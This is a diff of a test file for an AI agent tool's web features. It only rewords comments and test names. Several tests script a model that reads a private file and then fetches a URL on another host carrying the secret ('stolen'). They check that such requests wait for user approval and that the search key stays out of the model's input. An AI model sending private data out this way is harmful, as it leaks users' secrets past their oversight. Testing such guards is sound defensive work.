@@ -1,4 +1,7 @@
-/** The web tools in the built program: what they reach, who searches, and what is asked before it leaves. */
+/**
+ * The web tools in the built program: the hosts that they reach, the search service, and the approvals before data
+ * leaves.
+ */
 import { assert, describe, it } from "@effect/vitest"
 import { createServer } from "node:http"
 import type { AddressInfo } from "node:net"
@@ -54,7 +57,7 @@ interface World extends Site {
   readonly place: Place
 }
 
-/** A place whose operator opened the site under both of its names and chose it to search with. */
+/** A place whose operator allowed the site under both of its names and chose it as the search service. */
 const withWorld = (use: (world: World) => Promise<void>): Promise<void> =>
   withPlace((place) =>
     withSite((site) => {
@@ -70,12 +73,12 @@ const withWorld = (use: (world: World) => Promise<void>): Promise<void> =>
     })
   )
 
-/** What the model was told last of each request. */
+/** The last message to the model in each request. */
 const told = ({ requests }: ModelServer): ReadonlyArray<string> =>
   requests.map(({ messages }) => JSON.stringify(messages.at(-1)))
 
 describe("the web tools", { timeout: 90_000 }, () => {
-  it("a page is read at the person's word, and what the model makes of it after a private file is waiting for approval", () =>
+  it("reads a page that the user named, and waits for an approval if the model composed the address after a private file", () =>
     withWorld(({ elsewhere, origin, place, seen }) => {
       const stolen = `${elsewhere}/?d=${secret}`
       const script = [declare, readPlan, fetchPage(`${origin}/page`), fetchPage(stolen), { text: "waiting" }]
@@ -108,7 +111,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       })
     }))
 
-  it("what a search found, and what is asked in the person's words, needs no question", () =>
+  it("the links of a search, and a query in the user's words, need no approval", () =>
     withWorld(({ origin, place, seen }) => {
       const script = [
         declare,
@@ -130,7 +133,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       })
     }))
 
-  it("a query that the model made is waiting for approval too, and is denied where asks are", () =>
+  it("a query that the model composed waits for approval too, and is denied if asks are denied", () =>
     withWorld(({ origin, place, seen }) => {
       const script = [
         declare,
@@ -168,7 +171,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       })
     }))
 
-  it("--approve allow answers the ask of a System call, and an ask rule still is waiting for approval", () =>
+  it("--approve allow answers the ask of a System call, and an ask rule still waits for approval", () =>
     withWorld(async ({ origin, place, seen }) => {
       const request = ["http_request", JSON.stringify({ method: "POST", url: `${origin}/api` })]
       assert.strictEqual((await bough(place, ["call", ...request])).code, 3)
@@ -184,7 +187,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       assert.lengthOf(seen, 1)
     }))
 
-  it("a person's own call goes where it says, and nothing private is reached that the operator did not open", () =>
+  it("a user's own call reaches its address, and no private host that the operator did not allow", () =>
     withWorld(async ({ origin, place, seen }) => {
       const got = await bough(place, ["call", "http_get", JSON.stringify({ url: `${origin}/x` })])
       assert.strictEqual(got.code, 0, got.stdout)
@@ -206,7 +209,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       assert.deepStrictEqual([closed.code, search.code, seen.length], [1, 1, 1])
     }))
 
-  it("only the operator says who searches and which private services are open", () =>
+  it("only the operator sets the search service and the allowed private services", () =>
     withPlace(async (place) => {
       put(place, ".bough/config.jsonc", '{ "network": { "allow": [{ "host": "localhost", "port": 80 }] } }')
       const opened = await bough(place, ["run", "--trust", "hi"])
@@ -218,7 +221,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       assert.match((await bough(place, ["doctor"])).stdout, /search\.provider: expected .*"tavily"/i)
     }))
 
-  it("the key of the search service is kept out of what the model reads", () =>
+  it("the key of the search service is kept out of the model's input", () =>
     withWorld(({ origin, place }) =>
       withModel([call("read_file", { path: "notes.txt" }), { text: "done" }], async (server) => {
         put(place, "notes.txt", "key: swordfish-9\n")
@@ -229,7 +232,7 @@ describe("the web tools", { timeout: 90_000 }, () => {
       })
     ))
 
-  it("doctor tells who searches and what is missing for it", () =>
+  it("doctor names the search service and its missing settings", () =>
     withPlace(async (place) => {
       assert.match(
         (await bough(place, ["doctor"])).stdout,
@@ -253,8 +256,8 @@ const sessionsOf = async (place: Place): Promise<ReadonlyArray<string>> =>
     }>
   ).map(({ sessionId }) => sessionId)
 
-describe.skipIf(tmux.skip)(`a person in a terminal${tmux.suffix}`, { timeout: 90_000 }, () => {
-  it("sees why it asks and what would leave, is offered a rule for the host, and agrees once", () =>
+describe.skipIf(tmux.skip)(`a user in a terminal${tmux.suffix}`, { timeout: 90_000 }, () => {
+  it("sees why it asks and which data would leave, is offered a rule for the host, and approves once", () =>
     withWorld(({ elsewhere, origin, place, seen }) => {
       const stolen = `${elsewhere}/?d=${secret}`
       const again = fetchPage(`${elsewhere}/?d=again`)
@@ -277,7 +280,7 @@ describe.skipIf(tmux.skip)(`a person in a terminal${tmux.suffix}`, { timeout: 90
       )
     }))
 
-  it("is asked in another process about what the first one left waiting, and agrees once", () =>
+  it("is asked in another process about the calls that the first one left pending, and approves once", () =>
     withWorld(({ elsewhere, origin, place, seen }) => {
       const stolen = `${elsewhere}/?d=${secret}`
       const script = [readPlan, fetchPage(`${origin}/page`), fetchPage(stolen), { text: "waits" }, { text: "all done" }]
